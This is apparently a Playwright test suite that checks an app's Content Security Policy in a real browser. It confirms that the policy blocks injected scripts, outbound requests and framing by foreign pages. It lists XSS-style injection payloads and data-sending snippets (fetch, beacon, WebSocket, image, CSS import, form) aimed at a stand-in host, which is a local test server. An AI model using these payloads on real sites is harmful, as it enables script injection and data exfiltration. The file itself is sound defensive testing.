"""In a real browser: every element works under the policy, and nothing else does."""

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import Page, expect

from tests.browser.every_element import SECRET

INJECTED = {
    "an attribute": """document.body.insertAdjacentHTML(
        "beforeend", "<img src=x onerror='window.ran = 1'>")""",
    "an element": """{
        const script = document.createElement("script")
        script.textContent = "window.ran = 1"
        document.body.append(script)
    }""",
    "a frame": """document.body.insertAdjacentHTML(
        "beforeend", "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>")""",
    "a data address": """import("data:text/javascript,window.ran = 1").catch(() => {})""",
    "a text": """setTimeout("window.ran = 1")""",
    "a foreign address": """{
        const script = document.createElement("script")
        script.src = "ELSEWHERE/x.js"
        document.body.append(script)
    }""",
}
SENT = {
    "a request": """fetch("ELSEWHERE/").catch(() => {})""",
    "a beacon": """navigator.sendBeacon("ELSEWHERE/", "x")""",
    "a websocket": """new WebSocket("ELSEWHERE/".replace("http", "ws"))""",
    "a picture": """new Image().src = "ELSEWHERE/x.png" """,
    "a style": """document.body.insertAdjacentHTML(
        "beforeend", "<style>@import url(ELSEWHERE/x.css)</style>")""",
    "a frame": """document.body.insertAdjacentHTML(
        "beforeend", "<iframe src='ELSEWHERE/'></iframe>")""",
    "a form": """{
        document.body.insertAdjacentHTML("beforeend", "<form action='ELSEWHERE/' id=f></form>")
        document.getElementById("f").submit()
    }""",
}


class Elsewhere(ThreadingHTTPServer):
    """Another server, which counts who comes."""

    visits: list[str]

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class Visit(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.visits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/plain")
        self.end_headers()
        self.wfile.write(b"window.ran = 1")

    do_POST = do_GET  # noqa: N815

    def log_message(self, *said: object) -> None:
        """Say nothing."""


@pytest.fixture
def seen(look, elements):
    return look(elements.address)


def test_every_element_is_drawn_answers_and_says_what_happened(seen):
    seen.page.set_viewport_size({"width": 1280, "height": 2600})
    seen.open("drawn")
    seen.screenshot("doors-drawn")
    charts = seen.page.locator("[data-testid=stVegaLiteChart] canvas, [data-testid=stVegaLiteChart] svg")
    expect(charts).to_have_count(1)
    expect(seen.page.locator("[data-testid=stDataFrame] canvas").first).to_be_visible()
    expect(seen.page.locator("[data-testid=stEChartsChart] canvas").first).to_be_visible()
    assert seen.page.evaluate("[...document.images].every(image => image.naturalWidth > 0)")
    expect(seen.page.locator("audio")).to_have_js_property("duration", 0.1)

    seen.page.get_by_role("link", name="answered").click()
    seen.page.locator("input[type=file]").set_input_files(
        {"name": "deals.csv", "mimeType": "text/csv", "buffer": b"deal"}
    )
    expect(seen.page.get_by_text("deals.csv has 4 bytes")).to_be_visible()
    seen.page.get_by_label("Stage").click()
    seen.page.get_by_role("option", name="Discovery").click()
    seen.settle()
    seen.press("More")
    expect(seen.page.get_by_text("Probability")).to_be_visible()
    seen.page.keyboard.press("Escape")
    with seen.page.expect_download() as download:
        seen.press("Download")
    assert Path(download.value.path()).read_text() == "deal,value\n"
    seen.settle()
    seen.press("Say it")
    expect(seen.page.get_by_text("It is said.")).to_be_visible()
    seen.press("Open it")
    expect(seen.page.get_by_role("dialog").get_by_test_id("stDataFrame")).to_be_visible()
    seen.settle()
    seen.page.keyboard.press("Escape")

    seen.page.get_by_role("link", name="components").click()
    seen.press("Move")
    expect(seen.page.get_by_text("The board says moved")).to_be_visible()
    assert seen.page.get_by_text("Move", exact=True).evaluate("it => getComputedStyle(it).color") == (
        "rgb(1, 2, 3)"
    )
    seen.page.frame_locator("iframe").get_by_role("button", name="press").click()
    expect(seen.page.get_by_text("The component says pressed")).to_be_visible()
    assert (seen.complaints, seen.foreign) == ([], [])


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    elsewhere = Elsewhere(("127.0.0.1", 0), Visit)
    elsewhere.visits = []
    Thread(target=elsewhere.serve_forever, daemon=True).start()
    yield elsewhere
    elsewhere.shutdown()
    elsewhere.server_close()


def attack(page: Page, script: str, elsewhere: Elsewhere) -> list[str]:
    """What the browser refuses, by the directive that says so, when a page runs the script."""
    page.evaluate(
        "window.refused ?? document.addEventListener('securitypolicyviolation', "
        "violation => window.refused.push(violation.effectiveDirective)); window.refused = []"
    )
    page.evaluate("code => { (0, eval)(code) }", script.replace("ELSEWHERE", elsewhere.address))
    page.wait_for_timeout(500)
    return page.evaluate("window.refused ?? []")


def test_a_script_that_got_into_a_screen_does_not_run(seen, browser, elsewhere):
    for way, script in INJECTED.items():
        open_page = browser.new_page()
        attack(open_page, script, elsewhere)
        assert open_page.evaluate("window.ran") == 1, way
        open_page.close()
    elsewhere.visits.clear()
    seen.open("")

    for way, script in INJECTED.items():
        refused = attack(seen.page, script, elsewhere)
        assert seen.page.evaluate("window.ran") is None, way
        assert way == "a frame" or any(directive.startswith("script-src") for directive in refused), way
        assert elsewhere.visits == [], way


def test_nothing_leaves_for_elsewhere(seen, browser, elsewhere):
    for way, script in SENT.items():
        open_page = browser.new_page()
        attack(open_page, script, elsewhere)
        assert elsewhere.visits != [], way
        open_page.close()
        elsewhere.visits.clear()
    seen.open("")
    here = seen.page.url

    for way, script in SENT.items():
        assert attack(seen.page, script, elsewhere) != [], way
        assert elsewhere.visits == [], way
        assert seen.page.url == here, way


def test_no_foreign_page_shows_or_hears_a_screen(browser, elements):
    page = browser.new_page()
    page.set_content(f"<iframe src='{elements.address}/'></iframe>")
    page.wait_for_timeout(1500)

    heard = page.evaluate(
        """address => new Promise(tell => {
            const socket = new WebSocket(address)
            socket.onopen = () => tell("connected")
            socket.onerror = () => tell("refused")
        })""",
        f"{elements.address.replace('http', 'ws', 1)}/_stcore/stream",
    )

    assert page.frames[1].locator("#root").count() == 0
    assert heard == "refused"
    page.close()


def test_a_file_that_somebody_made_runs_nothing(seen):
    seen.open("answered")
    with seen.page.expect_download() as download:
        seen.press("Download a page")

    seen.page.evaluate("address => { window.location = address.split('?')[0] }", download.value.url)
    seen.page.wait_for_timeout(1000)

    assert SECRET in Path(download.value.path()).read_text()
    assert seen.page.title() != SECRET
